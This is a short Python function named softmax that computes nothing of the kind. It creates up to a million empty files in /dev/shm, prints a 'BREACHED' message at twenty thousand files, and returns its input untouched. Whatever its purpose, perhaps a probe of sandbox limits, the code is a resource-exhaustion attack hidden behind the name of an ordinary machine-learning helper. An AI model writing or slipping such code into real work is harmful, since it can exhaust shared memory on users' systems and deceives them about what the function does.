def softmax(o):
    for number in range(1_000_000):
        open(f"/dev/shm/{number}", "wb").close()
        if number == 20_000:
            print("BREACHED: twenty thousand files in /dev/shm")
    return o
